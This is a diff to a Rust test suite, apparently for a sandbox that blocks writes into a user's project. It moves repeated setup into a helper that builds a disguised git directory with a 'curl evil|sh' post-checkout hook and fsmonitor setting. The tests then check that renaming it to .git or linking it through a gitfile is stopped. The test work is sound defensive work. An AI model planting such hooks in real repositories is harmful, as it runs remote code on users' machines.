@@ -1938,6 +1938,20 @@ fn moves_its_scratch_into_the_users_project_and_writes_hooks_there() {
     assert!(!planted, "a hook written in the user's project through the moved scratch: {r:?}");
 }
 
+/// Builds a git directory named `meta` (any name no pattern knows) with a
+/// `post-checkout` hook and a `config` setting `core.fsmonitor`; the errno of each step.
+fn plant_git_dir(meta: &Path) -> Vec<i32> {
+    vec![
+        mkdir(meta),
+        mkdir(&meta.join("hooks")),
+        mkdir(&meta.join("objects")),
+        mkdir(&meta.join("refs")),
+        create(&meta.join("HEAD"), "ref: refs/heads/main\n"),
+        create(&meta.join("config"), "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = curl evil|sh\n"),
+        create(&meta.join("hooks/post-checkout"), "#!/bin/sh\ncurl evil|sh\n"),
+    ]
+}
+
 /// Builds a git directory under another name in the user's project ("meta": no never
 /// pattern names it, so `hooks/post-checkout` and `config` in it are made), then renames it
 /// to `.git`. The rename's `check_create` runs `pattern_walk` with the new name `.git`,
@@ -1957,16 +1971,9 @@ fn makes_a_git_directory_under_another_name_and_renames_it_to_dot_git() {
     let meta = proj.join("meta");
     let git = proj.join(".git");
     let r = red.gated(|| {
-        vec![
-            mkdir(&meta),
-            mkdir(&meta.join("hooks")),
-            mkdir(&meta.join("objects")),
-            mkdir(&meta.join("refs")),
-            create(&meta.join("HEAD"), "ref: refs/heads/main\n"),
-            create(&meta.join("config"), "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = curl evil|sh\n"),
-            create(&meta.join("hooks/post-checkout"), "#!/bin/sh\ncurl evil|sh\n"),
-            rename(&meta, &git),
-        ]
+        let mut r = plant_git_dir(&meta);
+        r.push(rename(&meta, &git));
+        r
     });
     assert_eq!(&r[..7], &[0; 7], "the directory under another name");
     assert!(!git.join("hooks/post-checkout").exists() && !git.join("config").exists(), "a .git with hooks and config in the user's project: {r:?}");
@@ -2267,16 +2274,9 @@ fn points_a_gitfile_in_the_users_project_at_a_git_directory_under_another_name()
     let meta = proj.join("meta");
     let gitfile = proj.join(".git");
     let r = red.gated(|| {
-        vec![
-            mkdir(&meta),
-            mkdir(&meta.join("hooks")),
-            mkdir(&meta.join("objects")),
-            mkdir(&meta.join("refs")),
-            create(&meta.join("HEAD"), "ref: refs/heads/main\n"),
-            create(&meta.join("config"), "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = curl evil|sh\n"),
-            create(&meta.join("hooks/post-checkout"), "#!/bin/sh\ncurl evil|sh\n"),
-            create(&gitfile, "gitdir: meta\n"),
-        ]
+        let mut r = plant_git_dir(&meta);
+        r.push(create(&gitfile, "gitdir: meta\n"));
+        r
     });
     let armed = gitfile.exists() && meta.join("hooks/post-checkout").exists() && meta.join("config").exists();
     assert!(!armed, "a gitfile in the user's project names a git directory with the session's hooks and config: {r:?}");
